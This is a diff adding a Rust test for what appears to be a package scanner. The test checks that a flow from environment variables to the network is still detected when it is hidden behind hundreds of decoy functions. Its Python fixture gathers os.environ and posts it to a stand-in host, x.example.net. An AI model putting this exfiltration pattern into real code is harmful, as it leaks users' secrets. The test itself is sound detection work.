@@ -248,6 +248,27 @@ fn files_that_only_take_data_on_keep_none_with_data_from_a_second_look() {
     }
 }
 
+/// The rules that tell of the environment being sent, behind so many functions of either file that might be the ones.
+fn behind(many: usize) -> Vec<String> {
+    let decoys = |body: &str| (0..many).map(|at| format!("def a{at}(x): {body}\n")).collect::<String>();
+    let gather = format!("import os\n{}def gather(): return os.environ\n", decoys("return [x]"));
+    let send = format!(
+        "import requests\n{}def send(x): requests.post('https://x.example.net', data=x)\n",
+        decoys("requests.get(x)")
+    );
+    let main = "from .gather import gather\nfrom .send import send\nsend(gather())\n";
+    let files = [("p/gather.py", &*gather), ("p/send.py", &*send), ("p/main.py", main)];
+    let told = ["AL-FLOW-environment-to-network", "AL-CODE-too-complex"];
+    findings(&files).into_iter().map(|finding| finding.rule).filter(|rule| told.contains(&rule.as_str())).collect()
+}
+
+#[test]
+fn many_functions_before_those_that_matter_hide_no_flow() {
+    assert_eq!(behind(600), ["AL-FLOW-environment-to-network"]);
+    // Of more than that it is told that not all were looked at.
+    assert!(behind(1100).contains(&"AL-CODE-too-complex".to_owned()));
+}
+
 #[test]
 fn a_client_of_the_package_s_own_sends_as_what_it_stands_on_does() {
     let client =
